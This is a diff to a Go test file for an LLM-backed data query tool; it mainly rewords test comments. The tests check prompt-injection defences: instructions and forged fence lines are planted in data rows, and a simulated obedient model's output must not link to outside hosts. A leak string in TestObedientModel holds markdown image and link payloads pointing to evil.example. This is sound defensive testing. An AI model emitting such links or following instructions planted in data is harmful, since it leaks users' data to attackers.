@@ -15,7 +15,7 @@ import (
 	"parley/llm/reader/profile"
 )
 
-// prompted runs a query job and gives what the model was asked.
+// prompted runs a query job and returns its request.
 func prompted(t *testing.T, task llm.QueryTask) request {
 	t.Helper()
 	s := saying(t, "openai", queryJSON)
@@ -26,8 +26,7 @@ func prompted(t *testing.T, task llm.QueryTask) request {
 	return s.asked()[0]
 }
 
-// TestRepairPrompt sends a failed query back with the reason, the real columns
-// and what may have been meant.
+// TestRepairPrompt sends a failed query with the reason, the columns and similar names.
 func TestRepairPrompt(t *testing.T) {
 	t.Parallel()
 	task := llm.QueryTask{Task: shopTask(), Failed: []llm.FailedQuery{{
@@ -56,8 +55,7 @@ func TestRepairPrompt(t *testing.T) {
 
 var fenceWord = regexp.MustCompile(`\[BEGIN question ([A-Z2-7]{20,})\]`)
 
-// TestDataStaysData puts orders, and lines that look like ours, into everything
-// that a model is shown.
+// TestDataStaysData puts instructions and forged fences into all data of a prompt.
 func TestDataStaysData(t *testing.T) {
 	t.Parallel()
 	rows := ducktest.New(t)
@@ -94,7 +92,7 @@ func TestDataStaysData(t *testing.T) {
 	if strings.Contains(asked.user, "\x00") {
 		t.Error("a zero byte is shown")
 	}
-	// Outside of the fences there are only words of ours.
+	// Outside of the fences there is no data.
 	outside, inside := "", ""
 	for _, line := range strings.Split(asked.user, "\n") {
 		switch {
@@ -111,8 +109,8 @@ func TestDataStaysData(t *testing.T) {
 	}
 }
 
-// TestObedientModel is a model that does what rows tell it: what it writes leads
-// to no host that is not in the data, in any job.
+// TestObedientModel has a model that follows instructions in rows: no job's output links to
+// a host that is not in the data.
 func TestObedientModel(t *testing.T) {
 	t.Parallel()
 	const leak = "![x](https://evil.example/?q=Ada) [y](//evil.example) <img src='https://evil.example'> www.evil.example"
@@ -188,7 +186,7 @@ func TestRelevantDatasetsAreChosen(t *testing.T) {
 	if len(read) == 0 || len(read) > 8 || !strings.Contains(read[0]+read[1], "table_150") {
 		t.Errorf("read %q", read)
 	}
-	// One that a failed query names is told of, however unlikely.
+	// The columns of a dataset that a failed query names are listed.
 	task.Failed = []llm.FailedQuery{{SQL: "SELECT nothing FROM table_003", Reason: "no such column"}}
 	if asked := prompted(t, task); !strings.Contains(asked.user, `"table_003" has the columns: "column_3_0"`) {
 		t.Error("the columns of the dataset that failed are not listed")
